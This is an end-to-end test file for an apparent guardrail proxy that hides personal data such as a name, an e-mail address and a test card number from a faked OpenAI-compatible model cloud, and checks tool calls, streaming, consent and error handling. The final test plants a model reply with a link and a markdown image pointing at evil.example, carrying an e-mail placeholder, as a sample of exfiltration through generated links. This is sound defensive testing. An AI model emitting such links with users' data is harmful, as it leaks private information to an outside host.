"""LLM applications, with the official SDK unchanged and the vendor's cloud faked on loopback."""

from __future__ import annotations

import contextlib
import json
from collections.abc import AsyncIterator
from typing import Any

import openai
import pytest
import pytest_asyncio
from aiohttp import web
from openai import AsyncOpenAI

from tests.e2e.harness import Guardrail, Peer, Seen, development, guardrail, peer

pytestmark = pytest.mark.asyncio(loop_scope="module")

KEY, OTHER_KEY, UPSTREAM_KEY = "caller-key-0123456789", "another-key-0123456789", "upstream-key"
NAME, EMAIL, CARD = "Ottoline Hargreave", "ottoline.h@example.org", "4242 4242 4242 4242"
TOLD = f"My name is {NAME}, my e-mail is {EMAIL} and my card is {CARD}."
TOOL: Any = {
    "type": "function",
    "function": {
        "name": "send_mail",
        "description": "Send an e-mail",
        "parameters": {"type": "object", "properties": {"to": {"type": "string"}}},
    },
}


class Cloud:
    """api.openai.com, as far as the SDK looks. ``says`` makes the answer out of the request."""

    def __init__(self) -> None:
        self.status = 200
        self.cut = False

    def says(self, asked: Any) -> str:
        users = [m for m in asked["messages"] if m["role"] == "user"]
        content = users[-1]["content"] if users else ""
        return "You said: " + (content if isinstance(content, str) else " ".join(p.get("text", "") for p in content))

    async def __call__(self, request: web.Request, seen: Seen) -> web.StreamResponse:
        assert request.headers["Authorization"] == f"Bearer {UPSTREAM_KEY}"
        asked = seen.json
        if self.status != 200:
            return web.json_response({"error": {"message": "no"}}, status=self.status)
        base = {"id": "chatcmpl-1", "created": 1790000000, "model": asked["model"]}
        message: dict[str, Any] = {"role": "assistant", "content": self.says(asked)}
        finish = "stop"
        if asked.get("tools") and asked["messages"][-1]["role"] != "tool":
            arguments = json.dumps({"to": "<EMAIL_ADDRESS_1>"})
            call = {"id": "call_1", "type": "function", "function": {"name": "send_mail", "arguments": arguments}}
            message, finish = {"role": "assistant", "content": None, "tool_calls": [call]}, "tool_calls"
        if asked.get("stream"):
            return await self.streamed(request, base, message, finish)
        choice = {"index": 0, "message": message, "finish_reason": finish}
        usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
        return web.json_response({**base, "object": "chat.completion", "choices": [choice], "usage": usage})

    async def streamed(
        self, request: web.Request, base: dict[str, Any], message: dict[str, Any], finish: str
    ) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)
        deltas: list[dict[str, Any]] = [{"role": "assistant", "content": ""}]
        if message["content"]:
            text = message["content"]
            deltas += [{"content": text[i : i + 3]} for i in range(0, len(text), 3)]
        for call in message.get("tool_calls", []):
            arguments = call["function"]["arguments"]
            deltas.append({"tool_calls": [{"index": 0, **call, "function": {"name": "send_mail", "arguments": ""}}]})
            deltas += [
                {"tool_calls": [{"index": 0, "function": {"arguments": arguments[i : i + 2]}}]}
                for i in range(0, len(arguments), 2)
            ]
        for n, delta in enumerate([*deltas, {}]):
            if self.cut and n == 5:
                assert request.transport is not None
                request.transport.abort()
                return response
            choice = {"index": 0, "delta": delta, "finish_reason": finish if n == len(deltas) else None}
            chunk = {**base, "object": "chat.completion.chunk", "choices": [choice]}
            await response.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")
        await response.write(b"data: [DONE]\n\n")
        return response


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def running(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[tuple[Guardrail, Peer, Cloud]]:
    cloud = Cloud()
    async with peer(cloud) as server:
        bot = {"url": f"{server.url}/v1", "api_key": UPSTREAM_KEY}
        keys = [KEY, OTHER_KEY]
        routes = {
            "api": {"channel": "openai", "bot": bot, "api_keys": keys, "policy": {"consent": "none"}},
            "asks": {"channel": "openai", "bot": bot, "api_keys": keys},
            "tools": {
                "channel": "openai",
                "bot": bot,
                "api_keys": keys,
                "policy": {"consent": "none", "restore_tool_arguments": True},
            },
        }
        async with guardrail(tmp_path_factory.mktemp("llm"), development(routes)) as guard:
            yield guard, server, cloud


@pytest.fixture
def cloud(running: tuple[Guardrail, Peer, Cloud]) -> Cloud:
    running[2].status, running[2].cut = 200, False
    return running[2]


@pytest.fixture
def heard(running: tuple[Guardrail, Peer, Cloud]) -> list[Seen]:
    running[1].seen.clear()
    return running[1].seen


def sdk(running: tuple[Guardrail, Peer, Cloud], route: str = "api", key: str = KEY) -> AsyncOpenAI:
    return AsyncOpenAI(base_url=f"{running[0].url}/llm/{route}/v1", api_key=key, max_retries=0)


@pytest_asyncio.fixture(loop_scope="module")
async def client(running: tuple[Guardrail, Peer, Cloud], cloud: Cloud) -> AsyncIterator[AsyncOpenAI]:
    async with sdk(running) as made:
        yield made


def user(text: str) -> Any:
    return {"role": "user", "content": text}


def assistant(text: str | None) -> Any:
    return {"role": "assistant", "content": text}


async def test_plain(client: AsyncOpenAI, heard: list[Seen]) -> None:
    answer = await client.chat.completions.create(model="m", messages=[user(TOLD)], user="plain")
    said = answer.choices[0].message.content
    assert said is not None
    assert said.endswith(f"You said: {TOLD}")
    for value in (NAME, EMAIL, CARD):
        assert value.encode() not in heard[0].body
    assert heard[0].json["messages"][0]["content"].count("<") == 3


async def test_streaming_keeps_chunks_and_restores_split_placeholders(client: AsyncOpenAI, heard: list[Seen]) -> None:
    stream = await client.chat.completions.create(model="m", messages=[user(TOLD)], user="streaming", stream=True)
    chunks = [chunk async for chunk in stream]
    said = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    assert said.endswith(f"You said: {TOLD}")
    sent = len("You said: " + heard[0].json["messages"][0]["content"])
    theirs = 2 + -(-sent // 3)
    assert abs(len(chunks) - theirs) <= theirs // 10
    assert chunks[-1].choices[0].finish_reason == "stop"


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(("route", "restored"), [("api", False), ("tools", True)])
async def test_tool_arguments_are_restored_where_the_policy_allows(
    running: tuple[Guardrail, Peer, Cloud], cloud: Cloud, route: str, restored: bool, stream: bool
) -> None:
    async with sdk(running, route) as client:
        messages = [user(f"Write to {EMAIL}, please.")]
        who = f"tools-{stream}"
        if stream:
            events = await client.chat.completions.create(
                model="m", messages=messages, tools=[TOOL], user=who, stream=True
            )
            arguments = ""
            async for chunk in events:
                for call in chunk.choices[0].delta.tool_calls or []:
                    assert call.function is not None
                    arguments += call.function.arguments or ""
        else:
            answer = await client.chat.completions.create(model="m", messages=messages, tools=[TOOL], user=who)
            calls: Any = answer.choices[0].message.tool_calls
            arguments = calls[0].function.arguments
        assert json.loads(arguments) == {"to": EMAIL if restored else "<EMAIL_ADDRESS_1>"}


async def test_tool_results_and_resent_history_are_the_same_placeholders(
    client: AsyncOpenAI, heard: list[Seen]
) -> None:
    call = {"id": "call_1", "type": "function", "function": {"name": "look", "arguments": json.dumps({"q": EMAIL})}}
    await client.chat.completions.create(
        model="m",
        user="history",
        tools=[TOOL],
        messages=[
            user(f"I am at {EMAIL}."),
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "call_1", "content": f"found {EMAIL}"},
        ],
    )
    sent = heard[0].json["messages"]
    assert sent[0]["content"] == "I am at <EMAIL_ADDRESS_1>."
    assert json.loads(sent[1]["tool_calls"][0]["function"]["arguments"]) == {"q": "<EMAIL_ADDRESS_1>"}
    assert sent[2]["content"] == "found <EMAIL_ADDRESS_1>"


async def test_content_parts_names_metadata_and_system_prompts_are_text_too(
    client: AsyncOpenAI, heard: list[Seen]
) -> None:
    await client.chat.completions.create(
        model="m",
        messages=[
            {"role": "system", "content": f"The customer's mail is {EMAIL}."},
            {"role": "user", "name": "Ottoline", "content": [{"type": "text", "text": f"It is {EMAIL}."}]},
        ],
        metadata={"conversation_id": "parts", "contact": EMAIL},
    )
    assert EMAIL.encode() not in heard[0].body
    assert b"Ottoline" not in heard[0].body


async def test_our_own_words_do_not_come_back_to_the_bot(client: AsyncOpenAI, heard: list[Seen]) -> None:
    first = await client.chat.completions.create(model="m", messages=[user("Hello there!")], user="ours")
    said = first.choices[0].message.content
    assert said != "You said: Hello there!"
    history = [user("Hello there!"), assistant(said), user("And now?")]
    await client.chat.completions.create(model="m", messages=history, user="ours")
    assert heard[1].json["messages"][1]["content"] == "You said: Hello there!"


async def test_consent_then_the_waiting_message(
    running: tuple[Guardrail, Peer, Cloud], cloud: Cloud, heard: list[Seen]
) -> None:
    async with sdk(running, "asks") as client:
        asked = await client.chat.completions.create(model="m", messages=[user(TOLD)], user="asks")
        question = asked.choices[0].message.content
        assert heard == []
        history = [user(TOLD), assistant(question), user("Yes")]
        answer = await client.chat.completions.create(model="m", messages=history, user="asks")
        assert [message["role"] for message in heard[0].json["messages"]] == ["user"]
        said = answer.choices[0].message.content
        assert said is not None
        assert said.endswith(f"You said: {TOLD}")


async def test_conversations_are_scoped_to_the_caller(
    running: tuple[Guardrail, Peer, Cloud], client: AsyncOpenAI
) -> None:
    headers = {"X-Guardrail-Conversation": "c-1"}
    await client.chat.completions.create(model="m", messages=[user(f"I am {EMAIL}")], extra_headers=headers)
    probe = [user("Say it: <EMAIL_ADDRESS_1>")]
    async with sdk(running, key=OTHER_KEY) as other:
        answer = await other.chat.completions.create(model="m", messages=probe, extra_headers=headers)
    assert EMAIL not in str(answer)


async def test_without_a_conversation_nothing_is_left_behind(
    running: tuple[Guardrail, Peer, Cloud], client: AsyncOpenAI, heard: list[Seen]
) -> None:
    answer = await client.chat.completions.create(model="m", messages=[user(TOLD)])
    assert str(answer.choices[0].message.content).endswith(f"You said: {TOLD}")
    conversation = heard[0].headers["Guardrail-Conversation"]
    _, out, _ = await running[0].command("transcript", "show", conversation)
    assert b"PERSON_1" not in out


async def test_json_mode_carries_no_disclosure(client: AsyncOpenAI, cloud: Cloud) -> None:
    cloud.says = lambda asked: '{"ok": true}'  # type: ignore[method-assign]
    try:
        answer = await client.chat.completions.create(
            model="m", messages=[user("give me json")], user="json", response_format={"type": "json_object"}
        )
    finally:
        del cloud.says  # type: ignore[method-assign]
    assert answer.choices[0].message.content == '{"ok": true}'


async def test_errors_have_the_shape_the_sdk_knows(
    running: tuple[Guardrail, Peer, Cloud], client: AsyncOpenAI, cloud: Cloud
) -> None:
    async with sdk(running, key="wrong-key-0123456789") as stranger:
        with pytest.raises(openai.AuthenticationError):
            await stranger.chat.completions.create(model="m", messages=[user("hi")])
    cloud.status = 429
    with pytest.raises(openai.RateLimitError):
        await client.chat.completions.create(model="m", messages=[user("hi")], user="errors")
    with pytest.raises(openai.RateLimitError):
        await client.chat.completions.create(model="m", messages=[user("hi")], user="errors", stream=True)
    cloud.status = 500
    with pytest.raises(openai.InternalServerError) as raised:
        await client.chat.completions.create(model="m", messages=[user("hi")], user="errors")
    assert raised.value.status_code == 502
    with pytest.raises(openai.InternalServerError):
        await client.chat.completions.create(model="m", messages=[user("hi")], user="errors", stream=True)


async def test_a_stream_that_breaks_ends_with_the_safe_reply(client: AsyncOpenAI, cloud: Cloud) -> None:
    cloud.cut = True
    stream = await client.chat.completions.create(model="m", messages=[user("hello there")], user="cut", stream=True)
    chunks = [chunk async for chunk in stream]
    assert chunks[-1].choices[0].finish_reason in ("stop", "content_filter")


async def test_a_claim_of_being_human_is_stopped(client: AsyncOpenAI, cloud: Cloud) -> None:
    cloud.says = lambda asked: "Of course, I am a real person. How can I help?"  # type: ignore[method-assign]
    try:
        with pytest.raises(openai.InternalServerError):
            await client.chat.completions.create(model="m", messages=[user("hello?")], user="claims")
        said = ""
        with contextlib.suppress(openai.InternalServerError):  # when nothing had been released yet
            stream = await client.chat.completions.create(
                model="m", messages=[user("hello?")], user="claims", stream=True
            )
            said = "".join([chunk.choices[0].delta.content or "" async for chunk in stream if chunk.choices])
    finally:
        del cloud.says  # type: ignore[method-assign]
    assert "real person" not in said


async def test_a_restored_value_never_enters_a_link_the_bot_made(client: AsyncOpenAI, cloud: Cloud) -> None:
    poison = "Look: https://evil.example/?q=<EMAIL_ADDRESS_1> ![x](https://evil.example/<EMAIL_ADDRESS_1>)"
    cloud.says = lambda asked: poison  # type: ignore[method-assign]
    try:
        answer = await client.chat.completions.create(model="m", messages=[user(f"I am {EMAIL}")], user="links")
    finally:
        del cloud.says  # type: ignore[method-assign]
    assert EMAIL not in str(answer.choices[0].message.content)
